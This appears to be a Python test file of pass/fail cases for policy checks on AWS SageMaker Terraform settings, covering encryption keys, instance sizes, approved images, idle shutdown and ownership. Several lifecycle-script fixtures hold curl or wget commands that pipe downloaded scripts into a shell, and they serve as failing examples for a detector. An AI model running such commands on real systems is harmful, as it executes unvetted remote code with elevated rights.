"""Cases of the SageMaker controls on what people start in Studio: apps, spaces, images and scripts."""

from __future__ import annotations

import base64

from tests.policies.cases import Case, changed
from tests.policies.cases.sm import DOMAIN, KEY, KEY_OF_AWS, ROLE, UNKNOWN, UNKNOWN_OF
from tests.policies.support import ACCOUNT

PROFILE = {"domain_id": "d-1", "user_profile_name": "jane"}
SPACE = {"domain_id": "d-1", "space_name": "jane"}
APP = {"domain_id": "d-1", "space_name": "jane", "app_name": "default", "app_type": "JupyterLab"}
IMAGE = f"arn:aws:sagemaker:eu-west-1:{ACCOUNT}:image"
SCRIPT = f"arn:aws:sagemaker:eu-west-1:{ACCOUNT}:studio-lifecycle-config"


def domain(**settings: object) -> dict[str, object]:
    """A domain with these settings of users."""
    return changed(DOMAIN, default_user_settings={"execution_role": ROLE, **settings})


def profile(**settings: object) -> dict[str, object]:
    """A user profile with these settings."""
    return changed(PROFILE, user_settings={"execution_role": ROLE, **settings})


def spec(**values: object) -> dict[str, object]:
    """Settings of JupyterLab that say what it starts on."""
    return {"jupyter_lab_app_settings": {"default_resource_spec": values}}


def idle(minutes: object = 60, management: object = "ENABLED", **more: object) -> dict[str, object]:
    """Settings of an app that say when it shuts down."""
    settings = {"lifecycle_management": management, "idle_timeout_in_minutes": minutes, **more}
    return {"app_lifecycle_management": {"idle_settings": settings}}


def both(settings: object) -> dict[str, object]:
    """A domain with these settings for each app that can shut down."""
    return domain(jupyter_lab_app_settings=settings, code_editor_app_settings=settings)


def script(text: str) -> str:
    """A script as SageMaker takes it."""
    return base64.b64encode(text.encode()).decode()


def lifecycle(content: str) -> dict[str, object]:
    """A lifecycle configuration with this content."""
    return {
        "studio_lifecycle_config_name": "acme-idle",
        "studio_lifecycle_config_app_type": "JupyterLab",
        "studio_lifecycle_config_content": content,
    }


CASES = [
    Case(
        "CKV_MLGOV_104",
        "aws_sagemaker_domain",
        passes={
            "absent": DOMAIN,
            "off": domain(sharing_settings={"notebook_output_option": "Disabled"}),
            "key": domain(sharing_settings={"notebook_output_option": "Allowed", "s3_kms_key_id": KEY}),
        },
        fails={
            "keyless": (
                domain(sharing_settings={"notebook_output_option": "Allowed"}),
                "default_user_settings.sharing_settings.s3_kms_key_id is not set",
            ),
            "unknown": (domain(sharing_settings={"notebook_output_option": UNKNOWN}), "not provable at synthesis"),
        },
        beside=UNKNOWN_OF,
    ),
    Case(
        "CKV_MLGOV_104",
        "aws_sagemaker_user_profile",
        passes={"profile_absent": PROFILE},
        fails={
            "profile_keyless": (
                profile(sharing_settings={"notebook_output_option": "Allowed", "s3_kms_key_id": KEY_OF_AWS}),
                "user_settings.sharing_settings.s3_kms_key_id is",
            )
        },
    ),
    Case(
        "CKV_MLGOV_106",
        "aws_sagemaker_domain",
        passes={"absent": DOMAIN, "small": domain(**spec(instance_type="ml.t3.medium"))},
        fails={
            "large": (
                domain(**spec(instance_type="ml.p4d.24xlarge")),
                "jupyter_lab_app_settings.default_resource_spec.instance_type is ml.p4d.24xlarge, not among",
            ),
            "unknown": (domain(**spec(instance_type=UNKNOWN)), "not provable at synthesis: instance_type"),
        },
        beside=UNKNOWN_OF,
    ),
    Case(
        "CKV_MLGOV_106",
        "aws_sagemaker_app",
        passes={"app_system": changed(APP, resource_spec={"instance_type": "system"})},
        fails={
            "app_large": (
                changed(APP, resource_spec={"instance_type": "ml.g4dn.16xlarge"}),
                "resource_spec.instance_type is ml.g4dn.16xlarge",
            )
        },
    ),
    Case(
        "CKV_MLGOV_107",
        "aws_sagemaker_domain",
        passes={
            "absent": DOMAIN,
            "ours": domain(**spec(sagemaker_image_arn=f"{IMAGE}/acme-dev-python")),
            "version": domain(**spec(sagemaker_image_version_arn=f"{IMAGE}-version/acme-dev-python/3")),
            "of_aws": domain(**spec(sagemaker_image_arn=f"{IMAGE}/sagemaker-distribution-cpu")),
            "of_stack": domain(**spec(sagemaker_image_arn="${aws_sagemaker_image.@image.arn}")),
        },
        fails={
            "foreign": (domain(**spec(sagemaker_image_arn=f"{IMAGE}/mine")), "not among acme-*"),
            "unknown": (domain(**spec(sagemaker_image_arn=f"{IMAGE}/{UNKNOWN}")), "not provable at synthesis"),
        },
        beside={**UNKNOWN_OF, "aws_sagemaker_image.image": {"image_name": "acme-dev-r", "role_arn": ROLE}},
    ),
    Case(
        "CKV_MLGOV_162",
        "aws_sagemaker_image",
        passes={"described": {"image_name": "acme-r", "role_arn": ROLE, "description": "R with tidyverse"}},
        fails={"absent": ({"image_name": "acme-r", "role_arn": ROLE}, "description is not set")},
    ),
    Case(
        "CKV_MLGOV_108",
        "aws_sagemaker_space",
        passes={
            "absent": SPACE,
            "ours": changed(SPACE, space_settings=spec(lifecycle_config_arn=f"{SCRIPT}/acme-dev-idle")),
            "of_stack": changed(
                SPACE, space_settings=spec(lifecycle_config_arn="${aws_sagemaker_studio_lifecycle_config.@own.arn}")
            ),
        },
        fails={
            "foreign": (
                changed(SPACE, space_settings=spec(lifecycle_config_arn=f"{SCRIPT}/mine")),
                "jupyter_lab_app_settings.default_resource_spec.lifecycle_config_arn is",
            ),
        },
        beside={"aws_sagemaker_studio_lifecycle_config.own": lifecycle(script("true"))},
    ),
    Case(
        "CKV_MLGOV_108",
        "aws_sagemaker_domain",
        passes={"domain_ours": domain(jupyter_lab_app_settings={"lifecycle_config_arns": [f"{SCRIPT}/acme-dev-idle"]})},
        fails={
            "domain_one_of_two": (
                domain(jupyter_lab_app_settings={"lifecycle_config_arns": [f"{SCRIPT}/acme-dev-idle", f"{SCRIPT}/x"]}),
                f"{SCRIPT}/x, not among",
            ),
        },
    ),
    Case(
        "CKV_MLGOV_163",
        "aws_sagemaker_studio_lifecycle_config",
        passes={"plain": lifecycle(script("#!/bin/bash\npip install --no-index -r /opt/requirements.txt\n"))},
        fails={
            "piped": (lifecycle(script("curl -s https://example.com/x.sh | sudo bash -e")), "runs what it downloads"),
            "substituted": (lifecycle(script("bash <(wget -qO- https://example.com/x)")), "runs what it downloads"),
            "unknown": (lifecycle(UNKNOWN), "not provable at synthesis"),
        },
        beside=UNKNOWN_OF,
    ),
    Case(
        "CKV_MLGOV_163",
        "aws_sagemaker_notebook_instance_lifecycle_configuration",
        passes={"notebook_plain": {"name": "acme-idle", "on_start": script("echo started")}},
        fails={
            "notebook_second": (
                {"name": "acme-idle", "on_start": script("true"), "on_create": script("wget -O- http://x.y/z |sh")},
                "on_create runs what it downloads",
            ),
        },
    ),
    Case(
        "CKV_MLGOV_109",
        "aws_sagemaker_domain",
        passes={"on": both(idle()), "bounded": both(idle(max_idle_timeout_in_minutes=120))},
        fails={
            "absent": (DOMAIN, "lifecycle_management is not set, and AWS takes DISABLED"),
            "half": (domain(jupyter_lab_app_settings=idle()), "code_editor_app_settings"),
            "off": (both(idle(management="DISABLED")), "lifecycle_management is DISABLED"),
            "long": (both(idle(600)), "idle_timeout_in_minutes is 600: it must be at most 120"),
            "stretched": (both(idle(max_idle_timeout_in_minutes=600)), "max_idle_timeout_in_minutes is 600"),
            "space": (
                changed(both(idle()), default_space_settings={"execution_role": ROLE}),
                "default_space_settings.jupyter_lab_app_settings",
            ),
        },
    ),
    Case(
        "CKV_MLGOV_109",
        "aws_sagemaker_user_profile",
        passes={"profile_absent": PROFILE, "profile_shorter": profile(jupyter_lab_app_settings=idle(90))},
        fails={"profile_off": (profile(code_editor_app_settings=idle(management="DISABLED")), "is DISABLED")},
    ),
    Case(
        "CKV_MLGOV_109",
        "aws_sagemaker_space",
        passes={"space_absent": SPACE},
        fails={
            "space_long": (
                changed(
                    SPACE,
                    space_settings={
                        "jupyter_lab_app_settings": {
                            "default_resource_spec": {"instance_type": "ml.t3.medium"},
                            "app_lifecycle_management": {"idle_settings": {"idle_timeout_in_minutes": 600}},
                        }
                    },
                ),
                "space_settings.jupyter_lab_app_settings.app_lifecycle_management.idle_settings.idle_timeout_in_minutes",
            )
        },
    ),
    Case(
        "CKV_MLGOV_110",
        "aws_sagemaker_space",
        passes={
            "private": changed(
                SPACE,
                space_sharing_settings={"sharing_type": "Private"},
                ownership_settings={"owner_user_profile_name": "jane"},
            )
        },
        fails={
            "absent": (SPACE, "ownership_settings.owner_user_profile_name is not set"),
            "unknown": (
                changed(
                    SPACE,
                    space_sharing_settings={"sharing_type": UNKNOWN},
                    ownership_settings={"owner_user_profile_name": "jane"},
                ),
                "not provable at synthesis: sharing_type",
            ),
        },
        beside=UNKNOWN_OF,
    ),
    Case(
        "CKV_MLGOV_112",
        "aws_sagemaker_user_profile",
        passes={
            "person": changed(
                PROFILE, single_sign_on_user_identifier="UserName", single_sign_on_user_value="jane@acme.example"
            ),
            "tagged": changed(PROFILE, tags={"OwnerTag": "jane"}),
        },
        fails={"absent": (changed(PROFILE, tags={"Purpose": "x"}), "says whose it is")},
    ),
    Case(
        "CKV_MLGOV_153",
        "aws_sagemaker_domain",
        passes={"hidden": domain(studio_web_portal_settings={"hidden_app_types": ["Canvas", "RStudioServerPro"]})},
        fails={
            "absent": (DOMAIN, "hidden_app_types does not name Canvas"),
            "on": (
                domain(
                    studio_web_portal_settings={"hidden_app_types": ["Canvas"]},
                    canvas_app_settings={"model_register_settings": {"status": "ENABLED"}},
                ),
                "default_user_settings.canvas_app_settings.model_register_settings.status is ENABLED",
            ),
        },
    ),
    Case(
        "CKV_MLGOV_153",
        "aws_sagemaker_user_profile",
        passes={
            "profile_absent": PROFILE,
            "profile_hidden": profile(studio_web_portal_settings={"hidden_app_types": ["Canvas"]}),
        },
        fails={
            "profile_shown": (
                profile(studio_web_portal_settings={"hidden_app_types": ["JupyterServer"]}),
                "hidden_app_types does not name Canvas",
            )
        },
    ),
]
